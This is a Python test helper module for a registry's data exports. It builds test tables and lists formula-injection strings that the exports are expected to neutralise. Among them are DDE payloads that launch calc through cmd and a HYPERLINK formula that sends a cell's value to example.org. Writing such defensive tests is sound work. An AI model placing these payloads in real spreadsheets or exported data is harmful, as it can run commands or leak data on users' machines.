"""What the tests of all formats share: a registry, its meta data, and texts that spreadsheets run."""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools

import numpy as np
import pandas as pd
from hypothesis import strategies as st

from data.exports import ExportMeta, make_meta, site_table
from data.exports.table import clean
from geo.registry import Registry
from i18n import translator
from tests.make import make_registry, names

CREATED = dt.date(2026, 11, 22)
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")', "=1+1", "=cmd|' /C calc'!A0", "+1+1|x", "+cmd|' /C calc'!A0", "-1+1|cmd", "-2+3", "-5 Main St",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\t1", "\n=1+1", "\r=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫x", "⁼1", "⁺1", "'=1+1", "''+1", "'\t1", "+97222345678", "-0.5",
)  # fmt: skip
"""Texts that could run; the last two look like a telephone number and a number."""
TEXT_FIELDS = ("address", "phone", "email", "website", "hours", "note", "external_id")

TEXTS = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=40).filter(lambda text: "_x" not in text)
"""Any text without control signs; ``_xHHHH_`` is a workbook's own way to write a sign."""


def with_texts(registry: Registry, texts: list[str]) -> Registry:
    """Return the registry with the texts, in turn, in every text field, name and organisation of its sites."""
    count = len(registry.sites)
    cells = [texts[i % len(texts)] for i in range(count)]
    sites = registry.sites.assign(**{name: pd.Series(cells, index=registry.sites.index, dtype=object) for name in TEXT_FIELDS})
    sites["organisation_id"] = [f"o{i}" for i in range(count)]
    entities = registry.names | {
        "site": names({site_id: (text, text, text) for site_id, text in zip(sites.index, cells, strict=True)}),
        "organisation": names({f"o{i}": (text, None, None) for i, text in enumerate(cells)}),
    }
    return dataclasses.replace(registry, sites=sites, names=entities)


def table_and_meta(
    registry: Registry | None = None, mask: np.ndarray | None = None, *, lang: str = "ar", hxl: bool = False
) -> tuple[pd.DataFrame, ExportMeta]:
    """Return the table and the meta data of the chosen sites, all of them by default."""
    registry = make_registry(20) if registry is None else registry
    mask = np.ones(len(registry.sites), dtype=bool) if mask is None else mask
    words = translator(lang)
    meta = make_meta(registry, mask, lang=lang, words=words, filter_text="فلتر", created=CREATED, indicator="poverty_rate", hxl=hxl)
    return site_table(registry, mask, lang=lang, words=words), meta


@functools.cache
def _six() -> tuple[Registry, ExportMeta]:
    registry = make_registry(6)
    return registry, table_and_meta(registry)[1]


def table_of(texts: list[str]) -> tuple[pd.DataFrame, ExportMeta, list[str]]:
    """Return the table of six sites that hold up to six texts in turn, its meta data, and what must come back, row by row."""
    registry, meta = _six()
    mask = np.ones(len(registry.sites), dtype=bool)
    table = site_table(with_texts(registry, texts), mask, lang="ar", words=translator("ar"))
    return table, meta, [clean(texts[i % len(texts)]) for i in range(len(table))]


def plain(table: pd.DataFrame) -> list[list[object]]:
    """Return the cells as plain values: a missing number or date is None."""
    return [
        [None if cell is None or (not isinstance(cell, str) and pd.isna(cell)) else cell for cell in row] for row in table.itertuples(index=False)
    ]
